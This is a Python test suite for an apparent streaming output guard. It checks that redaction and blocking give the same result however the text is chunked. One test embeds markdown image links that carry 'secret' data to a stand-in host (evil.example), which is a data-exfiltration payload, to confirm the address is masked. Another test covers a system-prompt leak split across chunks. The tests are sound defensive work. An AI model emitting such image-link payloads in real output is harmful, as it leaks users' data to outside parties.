from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Iterable
from typing import Any

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from kit.guard_fakes import EMAIL, FAKES, NUMBER, find, policy
from stanchion_guard import Guard, load
from stanchion_guard.streaming import LONGEST_FINDING, Stream

KEY = r"-----BEGIN KEY-----[\s\S]*?(?:-----END KEY-----|\Z)"
CARD = "4111 1111 1111 1111"
LONG_KEY = "-----BEGIN KEY-----\n" + "MIIEvQIBADANBgkqhkiG9w0B\n" * 60 + "-----END KEY-----"


def guard(*rules: dict[str, Any], **more: Any) -> Guard:
    return Guard(load(policy(*rules, **more), FAKES))


MASKING = guard(
    find(EMAIL, "email", action="redact"),
    find(NUMBER, "number", action="redact"),
    find(KEY, "word", action="redact"),
    find(r"\bsecret\b", "word", action="redact"),
)


def streamed(made: Guard, chunks: Iterable[str]) -> tuple[str, Stream]:
    stream = made.stream()
    shown = [stream.feed(chunk).text for chunk in chunks]
    shown.append(stream.finish().text)
    return "".join(shown), stream


FOUND = (
    "ann@example.org",
    CARD,
    "4111-1111-1111-1111",
    "secret",
    LONG_KEY,
    "-----BEGIN KEY----- ",
    "b" * 5000 + "@c.org ",
)
PLAIN = (
    "Hello there. ",
    "a ",
    "word ",
    "\n",
    ". ",
    "? ",
    '!" ',
    "ümlaut ",
    "これは。",
    "x" * 60,
    "x" * 500 + " ",
    " 12345",
)
OTHER = ("Some longer sentence that goes on for a while. ", "😀", "\u200b", "@")
PIECES = st.sampled_from((*FOUND, *PLAIN, *OTHER))


@settings(max_examples=150, deadline=None)
@given(st.lists(PIECES, max_size=40).map("".join), st.data())
def test_however_a_text_is_chunked_the_released_text_is_that_of_the_whole(text: str, data: st.DataObject) -> None:
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=60)))
    chunks = [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    shown, stream = streamed(MASKING, chunks)
    whole = MASKING.check(text, "output")
    assume(all(finding.end - finding.start < LONGEST_FINDING for finding in whole.findings))
    assert shown == whole.texts[0]
    verdict = stream.close()
    assert verdict.action == whole.action
    assert verdict.findings == whole.findings
    assert verdict.coverage.guarded_characters == verdict.coverage.total_characters == len(text)


@settings(max_examples=20, deadline=None)
@given(st.lists(PIECES, max_size=12).map("".join))
def test_one_character_at_a_time_gives_the_same(text: str) -> None:
    assume(text.count("BEGIN") == text.count("END KEY"))
    assert streamed(MASKING, text)[0] == MASKING.check(text, "output").texts[0]


def test_halves_of_characters_are_joined_and_lone_ones_replaced() -> None:
    chunks = ["ok ", "\ud83d", "", "\ude00 ann@", "example.org \ud83d", " end", "\ude00", "\ud83d"]
    assert streamed(MASKING, chunks)[0] == "ok 😀 [EMAIL] \ufffd end\ufffd\ufffd"


def test_what_is_held_back_never_exceeds_the_stated_bound() -> None:
    stream = MASKING.stream()
    assert stream.hold_back_characters is not None
    assert stream.usual_hold_back_characters is not None
    for character in "Some ordinary words, then a stop. " * 200:
        assert stream.feed(character).held_characters <= stream.usual_hold_back_characters
    for character in "-----BEGIN KEY-----" + "x" * 3 * LONGEST_FINDING:
        assert stream.feed(character).held_characters <= stream.hold_back_characters


def test_a_finding_longer_than_the_bound_is_masked_in_pieces_and_nothing_of_its_first_part_shows() -> None:
    shown, stream = streamed(MASKING, ["-----BEGIN KEY-----" + "A" * (LONGEST_FINDING // 2), "A" * LONGEST_FINDING])
    assert shown.startswith("[WORD]")
    assert len(shown) < LONGEST_FINDING
    assert stream.shown_characters == 19 + LONGEST_FINDING // 2 + LONGEST_FINDING


def test_a_leak_spread_over_five_chunks_is_blocked_before_any_of_it_shows() -> None:
    made = guard(find("my system prompt is hidden", action="block", message="No."))
    text = "Sure, here is what you wanted to know, my friend. It is that "
    shown, stream = streamed(made, [text, "my sys", "tem pro", "mpt is", " hid", "den, and more. " * 100])
    verdict = stream.close()
    assert (verdict.action, verdict.message, stream.blocked) == ("block", "No.", True)
    assert "sys" not in shown
    assert shown == text[: stream.shown_characters]
    assert not verdict.coverage.complete
    assert verdict.coverage.total_characters > verdict.coverage.guarded_characters


@pytest.mark.parametrize("hold", ["sentence", "everything"])
def test_a_stream_that_no_rule_is_for_is_shown_and_is_not_complete(hold: str) -> None:
    made = guard(find("stop", action="block", stages=["input"]), stream={"hold": hold})
    shown, stream = streamed(made, ["stop here. " * 100])
    coverage = stream.close().coverage
    assert shown == "stop here. " * 100
    assert (coverage.total_characters, coverage.guarded_characters, coverage.complete) == (1_100, 0, False)
    assert coverage.uncovered == ((0, "no rule is for the stage output"),)


FILL = "The shop opens at nine and closes at six. "
DEFINED = "\n[1]: https://evil.example/?data=secretsecretsecret\n"


@pytest.mark.parametrize("sentences", [1, 4, 8, 40])
@pytest.mark.parametrize(
    "text",
    ["![x][1]\n{}" + DEFINED, FILL + DEFINED + "{}![x][1]", "![{}](https://evil.example/?data=secretsecretsecret)"],
    ids=["defined afar", "defined before", "long text"],
)
def test_an_image_that_carries_data_never_shows_its_address_however_far_its_parts_lie_apart(
    text: str, sentences: int
) -> None:
    text = FILL + text.replace("{}", FILL * sentences) + FILL
    made = Guard(load(policy({"detector": "links", "action": "redact"})))
    shown, stream = streamed(made, [text])
    assert made.check(text, "output").action == stream.close().action == "redact"
    assert "evil.example" not in shown
    assert "evil.example" not in made.check(text, "output").texts[0]


def test_a_key_block_that_ends_early_leaves_nothing_of_its_segment_unchecked() -> None:
    text = "-----BEGIN A-----END A----- and" + " then some more" * 22 + " the secret is here. "
    shown, stream = streamed(MASKING, [text, "And on it goes. " * 40])
    assert "secret" not in shown
    assert [finding.label for finding in stream.close().findings] == ["word"]


def test_nothing_comes_after_a_block() -> None:
    stream = guard(find("stop", action="block")).stream()
    released = stream.feed("stop " + "words and words. " * 100)
    assert (released.text, released.blocked, released.shown_characters) == ("", True, 0)
    assert stream.feed("more. " * 500).text == ""
    assert stream.finish().verdict == stream.close()
    with pytest.raises(ValueError, match="finished"):
        stream.feed("x")


def test_a_check_that_fails_in_the_middle_of_a_stream_blocks_where_the_policy_says_so() -> None:
    made = guard(find("x"), {"detector": "broken", "when_failed": "block"})
    shown, stream = streamed(made, ["Some words, enough of them to be checked. "] * 20)
    verdict = stream.close()
    assert (shown, verdict.action) == ("", "block")
    assert verdict.coverage.not_run == (("r1", "failed: the detector raised RuntimeError (1 of 1 windows)"),)
    assert verdict.coverage.guarded_characters == 0


def test_findings_stand_at_their_place_in_the_whole_text() -> None:
    text = "First some words to begin with, as one does. " * 30 + "ann@example.org" + " and then more of them. " * 30
    verdict = streamed(MASKING, [text[at : at + 7] for at in range(0, len(text), 7)])[1].close()
    assert [text[finding.start : finding.end] for finding in verdict.findings] == ["ann@example.org"]
    assert all(check.characters == len(text) for check in verdict.checks)


class Ending:
    """Judges a whole text by its end."""

    name, version, tier, threshold, blind_to = "ending", "1", "light", 0.5, "all"
    labels: tuple[str, ...] = ("end",)
    parameters: Any = {"type": "object", "properties": {}}
    reach = None

    def detect(self, reading: Any, part: int, subject: Any) -> Any:
        from stanchion_guard.records import Detection

        return Detection(1.0 if reading.raw.endswith("END") else 0.0)


def test_rules_that_need_the_whole_text_are_judged_at_its_end() -> None:
    rules = {"detector": "ending", "action": "redact"}, find("mask", action="redact")
    made = Guard(load(policy(*rules), {**FAKES, "ending": Ending}))
    shown, stream = streamed(made, ["Some END words. " * 40, "mask END"])
    assert shown == "Some END words. " * 40 + "[WORD] END"
    checks = {check.rule: check for check in stream.close().checks}
    assert (checks["r0"].triggered, checks["r0"].action) == (True, "flag")
    assert "shown before" in str(checks["r0"].reason)


def test_a_policy_that_holds_everything_shows_nothing_before_the_verdict_and_then_masks_it_all() -> None:
    rules = [{"detector": "ending", "action": "block"}, find("mask", action="redact")]
    made = Guard(load(policy(*rules, stream={"hold": "everything"}), {**FAKES, "ending": Ending}))
    stream = made.stream()
    assert stream.hold_back_characters is None
    assert stream.feed("mask it. " * 500).text == ""
    assert stream.finish().text == "[WORD] it. " * 500
    blocked, stream = streamed(made, ["mask it. " * 500, "END"])
    assert (blocked, stream.blocked, stream.shown_characters) == ("", True, 0)


def test_the_same_value_has_the_same_token_over_a_whole_stream() -> None:
    made = guard(find(EMAIL, "email", action="redact"), redact={"mode": "token"})
    shown, _ = streamed(made, ["Write to ann@example.org, it is best to do so soon. "] * 30)
    assert shown.count("[EMAIL_1_") == 30


def test_wrapping_a_source_ends_where_the_policy_blocks() -> None:
    made = guard(find(EMAIL, "email", action="redact"), find("forbidden", action="block"))
    calm = made.wrap(["Mail ann@exam", "ple.org about it."])
    assert "".join(calm) == "Mail [EMAIL] about it."
    assert calm.verdict is not None
    assert calm.verdict.action == "redact"
    drawn: list[int] = []

    async def source() -> AsyncIterator[str]:
        for index in range(100):
            drawn.append(index)
            yield (
                "this is forbidden, as you know by now. " if index == 20 else "A plain sentence of words follows here. "
            )

    async def collect() -> tuple[str, Any]:
        wrapped = made.awrap(source())
        return "".join([piece async for piece in wrapped]), wrapped.verdict

    text, verdict = asyncio.run(collect())
    assert "forbidden" not in text
    assert verdict.action == "block"
    assert len(drawn) < 40


def test_work_and_memory_grow_with_the_text_and_not_with_its_square() -> None:
    seen: list[int] = []

    class Counting(Ending):
        name, reach = "counting", 128  # type: ignore[assignment]

        def detect(self, reading: Any, part: int, subject: Any) -> Any:
            seen.append(len(reading.raw))
            return super().detect(reading, part, subject)

    made = Guard(load(policy({"detector": "counting"}), {"counting": Counting}))
    for chunks in (["A sentence of some words. " * 2_000], ["A sentence of some words. "] * 2_000):
        seen.clear()
        _, stream = streamed(made, chunks)
        assert sum(seen) < 12 * 52_000
        assert max(seen) < 1_000
    assert len(stream._buffer) < 2_000
